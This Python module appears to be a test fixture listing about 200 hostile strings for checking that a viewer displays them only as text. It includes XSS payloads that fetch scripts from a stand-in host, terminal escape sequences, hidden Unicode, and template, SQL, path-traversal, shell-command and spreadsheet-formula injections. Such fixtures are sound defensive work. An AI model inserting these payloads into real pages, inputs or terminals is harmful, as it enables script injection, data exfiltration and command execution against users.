"""200 lines that a hostile machine may write, each to be shown as nothing but text."""

from __future__ import annotations

EVIL = "https://evil.example"
_CALLS = ("alert(1)", "window.hit=1", f"fetch('{EVIL}/x')", f"import('{EVIL}/x.js')", f"location='{EVIL}'")
_TAGS = (
    "<script>{}</script>", "<script type=module>{}</script>", "</span></div><script>{}</script>", "</script><script>{}//",
    "<img src=x onerror=\"{}\">", "<svg onload=\"{}\">", "<svg><script>{}</script></svg>", "<body onload=\"{}\">",
    "<details open ontoggle=\"{}\">x</details>", "<input autofocus onfocus=\"{}\">", "<a href=\"javascript:{}\">x</a>",
    "<iframe srcdoc=\"<script>{}</script>\"></iframe>", "<video><source onerror=\"{}\"></video>",
    "<math><mtext><style><img src=x onerror=\"{}\">", "\" autofocus onfocus=\"{}\" x=\"", "' onmouseover='{}' x='",
    "<svg><animate onbegin=\"{}\" attributeName=x dur=1s>", "<form action=javascript:{}><button>x", "<object data=\"javascript:{}\">",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "<template><script>{}</script></template>",
)  # fmt: skip
_FETCHING = (
    f"<img src={EVIL}/a.png>", f"<link rel=stylesheet href={EVIL}/a.css>", f"<base href={EVIL}/>",
    f"<style>@import '{EVIL}/a.css';</style>", f"<style>body{{background:url({EVIL}/a)}}</style>", "<style>*{display:none}</style>",
    f"<iframe src={EVIL}></iframe>", f"<object data={EVIL}/a.swf></object>", f"<embed src={EVIL}/a>", f"<video src={EVIL}/a autoplay>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>", f"<svg><image href={EVIL}/a.svg /></svg>", f"<link rel=preload href={EVIL}/a as=script>",
    f"<div style='background:url({EVIL}/a)'>", f"<form action={EVIL} method=post><button autofocus>", f"<audio src={EVIL}/a autoplay></audio>",
    f"<svg><use href='{EVIL}/a.svg#x'/></svg>", f"<script src={EVIL}/a.js></script>", f"<table background={EVIL}/a>", "<plaintext>",
    "<!-- never closed", "<![CDATA[", "<?php echo 1 ?>", "</html>", "</body></html><p>after", "<textarea>", "<title>gone</title>", "<dialog open>",
)  # fmt: skip
_TERMINAL = (
    "\x1b[31mred\x1b[0m", "\x1b[1;5;7;31;42mloud\x1b[m", "\x1b[8mhidden\x1b[28m", "\x1b[38;5;196mindexed", "\x1b[38;2;255;0;0mtrue",
    "\x1b[38;2;1mshort", "\x1b[999999999999m", "\x1b[" + ";" * 60 + "m", "\x1b[" + "1;" * 4000 + "m", "\x1b[2J\x1b[H", "\x1b[1A\x1b[2K over",
    "\x1b]0;title\x07", f"\x1b]8;;{EVIL}\x07link\x1b]8;;\x07", f"\x1b]8;;{EVIL}\x1b\\link\x1b]8;;\x1b\\", "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07",
    "\x1b]52;c;aGVsbG8=\x07", "\x1bP1$r\x1b\\", "\x1b_app\x1b\\", "\x1b[?1049h", "\x1bc", "\x9b31mc1", "\x1b[31\u202em", "\x1b[\x1b[31mm", "\x1b",
    "".join(f"\x1b[{30 + i % 8}m{i}" for i in range(300)), "\x1b[31m" * 500 + "x", "\x1b[<script>m", "\x1b[0;\"onload=alert(1)m",
)  # fmt: skip
_UNSEEN = (
    "user\u202egnp.exe", "\u2066\u2067\u2068\u2069", "a\u200bb\u200cc\u200dd", "\ufeffbom", "\u2028line\u2029", "nul\x00nul", "\x00" * 50, "bell\x07",
    "back\x08\x08\x08\x08", "over\rwritten", "\x0b\x0c\x0e\x0f", "\x7f\x7f", "\x80\x85\x9f", "so\u00adft", "\u061c", "\U000e0041\U000e0042",
    "Z\u0351\u036b\u0343\u036a" * 60, "a" + "\u0301" * 900, "\u0e47" * 300, "\ufdfd" * 40, "\u2800" * 40, "\u3164", "\U0001f469\u200d\U0001f680",
    "\u1160\u115f", "\ufffe\uffff", "\u180e", "e\u20e3", "\u202a" * 100 + "x", "\t" * 40 + "tabs", " " * 2000 + "far",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7 * 7 }}", "{% for x in ().__class__.__mro__ %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}",
    "%s%s%n", "%0d%0aX-Evil: a=b", "&lt;b&gt;", "&#x3c;script&#x3e;", "&amp;amp;", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "__proto__",
    "constructor", "[object Object]", "null", "undefined", "NaN", "true", "[]", "{}", "[[\"a\",\"ink-red\"]]", "[\"x\", \"gap\"]",
    "' OR 1=1 --", "../../../../etc/passwd", "$(reboot)", "`reboot`", "; reboot", "=cmd|' /C calc'!A0", "@SUM(1)", "-1+1",
)  # fmt: skip
_FALSE = (
    "lines 5-9 missing", "lines 100-200 missing: expired", "120", "  120  error: not the line you think", "#L1-L999999", "not in the archive",
    "\u27e8U+202E\u27e9", "\u241b[31m", "Complete, 4 lines in 1 stream", "12 new lines \u2193",
)  # fmt: skip

HOSTILE = (
    [tag.format(_CALLS[i % len(_CALLS)]) for i, tag in enumerate(_TAGS * 3)][:63]
    + [*_FETCHING, *_TERMINAL, *_UNSEEN, *_TEMPLATES, *_FALSE]
    + [f"{tag.format('window.hit=1')}\x1b[31m\u202e\x00" for tag in _TAGS[:9]]
)
